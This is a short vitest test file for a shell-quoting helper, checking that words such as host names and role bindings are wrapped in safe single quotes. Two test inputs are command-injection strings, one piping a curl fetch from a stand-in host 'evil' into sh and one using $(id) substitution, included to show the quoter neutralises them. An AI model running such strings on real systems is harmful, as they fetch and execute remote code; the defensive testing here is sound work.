import { expect, test } from 'vitest'
import { quoted, shellWord } from './shell-word.ts'

test.each([
  ['shop.example.com', 'shop.example.com'],
  ['rolebinding/dayone:viewer:oidc-readers', 'rolebinding/dayone:viewer:oidc-readers'],
  ['x; curl evil|sh', "'x; curl evil|sh'"],
  ['$(id)', "'$(id)'"],
  ["it's", String.raw`'it'\''s'`],
  ['', "''"],
])('%s is quoted as %s', (word, typed) => {
  expect(shellWord(word)).toBe(typed)
})

test('also quotes words that need no quotes', () => {
  expect(quoted('web')).toBe("'web'")
})
